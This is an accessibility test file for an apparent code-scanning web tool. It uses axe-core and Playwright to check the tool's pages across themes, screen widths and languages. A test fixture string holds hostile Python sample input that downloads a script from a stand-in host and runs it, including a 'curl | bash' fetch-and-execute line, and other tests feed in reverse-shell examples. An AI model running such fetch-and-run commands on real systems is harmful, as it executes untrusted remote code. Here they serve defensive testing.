// axe-core in every state of the page: both themes, wide and phone, both languages.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import axe from 'axe-core';
import { example, openCode, openTab, paste, start, styleOf } from './support.mjs';

const { inPage, stop, address } = await start();
after(stop);

/** @typedef {import('playwright-core').Page} Page */

/** @param {Page} page @param {string} where */
async function check(page, where) {
  const violations = await page.evaluate(async () => {
    const { violations: found } = await /** @type {any} */ (globalThis).axe.run(document, {
      resultTypes: ['violations'],
    });
    return found.map((/** @type {any} */ violation) => ({
      id: violation.id,
      nodes: violation.nodes.map(
        (/** @type {any} */ node) => `${node.target.flat().join(' ')}: ${node.failureSummary}`,
      ),
    }));
  });
  assert.deepEqual(violations, [], where);
}

/** Holds the core back until the page shows that it works. @param {Page} page @returns {Promise<() => void>} */
async function held(page) {
  /** @type {() => void} */
  let release = () => {};
  const waiting = new Promise((resolve) => (release = () => resolve(undefined)));
  await page.route('**/*.wasm', async (route) => {
    await waiting;
    await route.continue();
  });
  return release;
}

const tabs = /** @type {const} */ ([
  'summary',
  'code',
  'layers',
  'indicators',
  'attack',
  'response',
  'diagnostics',
  'json',
]);

/** @param {Page} page @param {Parameters<import('playwright-core').Locator['setInputFiles']>[0]} files */
const openFiles = (page, files) => page.locator('#files').setInputFiles(files);

/** @param {string} name @param {string} text */
const file = (name, text) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });

const fetching = `import os, urllib.request
urllib.request.urlretrieve("http://files.example.invalid/a.sh", "/tmp/a.sh")
os.system("sh /tmp/a.sh")
os.system("curl -s http://198.51.100.7/b | bash")
`;

/** States of the page by their names: how to get there from the empty page. @type {Record<string, (page: Page) => Promise<unknown>>} */
const states = {
  empty: async () => {},
  ...Object.fromEntries(
    tabs.map((tab) => [
      `the tab ${tab}`,
      async (/** @type {Page} */ page) => {
        await paste(page, example('reverse-shell.json'));
        await page.locator('pv-facts summary').first().click();
        await openTab(page, tab);
        if (['code', 'layers', 'json'].includes(tab)) await page.locator('.cm-line').first().waitFor();
      },
    ]),
  ),
  ...Object.fromEntries(
    ['several', 'truncated', 'admin', 'webhook', 'checked-download'].map((id) => [
      `the example ${id}`,
      (/** @type {Page} */ page) => page.locator(`#${id}`).click(),
    ]),
  ),
  'what moved the score': async (page) => {
    await page.locator('#webhook').click();
    await page.locator('pv-verdict-card .moved summary').click();
  },
  'the menu to save': async (page) => {
    await page.locator('#webhook').click();
    await page.locator('#save').click();
  },
  'an explanation': async (page) => {
    await paste(page, example('reverse-shell.json'));
    await page.locator('pv-verdict-card .reasons button').first().click();
    await page.locator('.pv-target').first().hover();
    await page.locator('.pv-explain').waitFor();
  },
  'the search': async (page) => {
    await page.locator('#webhook').click();
    await openCode(page);
    await page.locator('#search').click();
    await page.locator('.cm-search input[name=search]').pressSequentially('import');
    await page.keyboard.press('Enter');
    await page.locator('.cm-searchMatch-selected').first().waitFor();
  },
  'hidden characters': async (page) => {
    await paste(page, `# \u202e ${'x'.repeat(300)}\n${fetching}`);
    await openCode(page);
    await page.locator('.pv-control').waitFor();
  },
  'what it would fetch': async (page) => {
    await paste(page, fetching);
    await openTab(page, 'indicators');
  },
  'the relations of findings': async (page) => {
    await page.locator('#several').click();
    await openTab(page, 'related');
  },
  'files, one of which cannot be read': (page) =>
    openFiles(page, [file('a.py', fetching), file('b.py', 'print(1)\n'), file('c.zip', 'no archive')]),
  'no finding': (page) => paste(page, '{"finding": {"category": 1}, "severity"'),
  'the allow list': async (page) => {
    await page.locator('#webhook').click();
    await page.locator('pv-verdict-card #allow').click();
    await page.locator('pv-allow-dialog dialog').waitFor();
  },
};

for (const colorScheme of /** @type {const} */ (['light', 'dark']))
  for (const [screen, width] of /** @type {const} */ ([
    ['wide', 1280],
    ['phone', 390],
  ]))
    for (const locale of /** @type {const} */ (['en-GB', 'pt-PT'])) {
      const look = `${colorScheme}, ${screen}, ${locale}`;
      const options = {
        colorScheme,
        locale,
        viewport: { width, height: 844 },
        init: axe.source,
        reducedMotion: /** @type {const} */ ('reduce'),
      };

      test(`axe finds nothing while the page works, ${look}`, () =>
        inPage({ ...options, goto: false }, async (page) => {
          const release = await held(page);
          await page.goto(address);
          await page.locator('textarea').waitFor();
          await paste(page, example('reverse-shell.json'));
          await page.locator('#cancel').waitFor();
          await check(page, 'working');
          release();
          await page.locator('pv-verdict-card').waitFor();
        }));

      test(`axe finds nothing in any state, ${look}`, () =>
        inPage(options, async (page) => {
          for (const [name, reach] of Object.entries(states)) {
            await reach(page);
            if (name !== 'empty') await page.locator('pv-verdict-card').waitFor();
            await check(page, name);
            await page.keyboard.press('Escape');
            if (name !== 'empty') await page.locator('#new').click();
            await page.locator('textarea').waitFor();
          }
        }));

      test(`axe finds nothing in the plain text that stands in for the editor, ${look}`, () =>
        inPage({ ...options, goto: false, broken: /\/editor-/ }, async (page) => {
          await page.route(/\/editor-[^/]*\.js$/, (route) => route.abort());
          await page.goto(address);
          await paste(page, `# \u202e ${'x'.repeat(300)}\n${fetching}`);
          await openTab(page, 'code');
          await page.locator('pv-plain-text').waitFor();
          await check(page, 'plain text');
        }));
    }

for (const colorScheme of /** @type {const} */ (['light', 'dark'])) {
  test(`axe finds nothing when there is no WebAssembly, ${colorScheme}`, () =>
    inPage({ colorScheme, init: `delete globalThis.WebAssembly;\n${axe.source}` }, async (page) => {
      await page.locator('pv-notice').waitFor();
      await check(page, 'no WebAssembly');
    }));

  test(`axe finds nothing when the analysis cannot be loaded, ${colorScheme}`, () =>
    inPage({ colorScheme, goto: false, init: axe.source }, async (page) => {
      await page.route('**/*.wasm', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Sign in</title>' }),
      );
      await page.goto(address);
      await page.locator('pv-notice').waitFor();
      await check(page, 'not loaded');
    }));
}

test('in forced colours the score, the severities and what is chosen can be told apart', () =>
  inPage({ forcedColors: 'active' }, async (page) => {
    await page.locator('#several').click();
    await page.locator('pv-verdict-card').waitFor();
    const ground = await styleOf(page, 'pv-verdict-card .card', 'background-color');
    for (const mark of ['.severity.critical', 'pv-score-scale .bar i', 'pv-score-scale .marker'])
      assert.notEqual(await styleOf(page, `pv-verdict-card ${mark}`, 'background-color'), ground, mark);
    assert.notEqual(
      await styleOf(page, '[role=tab][aria-selected=true]', 'border-bottom-color'),
      await styleOf(page, '[role=tab][aria-selected=false]', 'border-bottom-color'),
    );
    assert.equal(await styleOf(page, '[role=option][aria-selected=true]', 'outline-style'), 'solid');
    await openCode(page);
    assert.notEqual(await styleOf(page, '.pv-mark', 'background-color'), ground);
  }));

test('with reduced motion nothing moves', () =>
  inPage({ reducedMotion: 'reduce' }, async (page) => {
    await page.locator('#reverse-shell').click();
    await openCode(page);
    const moving = await page.evaluate(
      () =>
        document.getAnimations().filter((animation) => animation.constructor.name === 'CSSAnimation').length,
    );
    assert.equal(moving, 0);
  }));
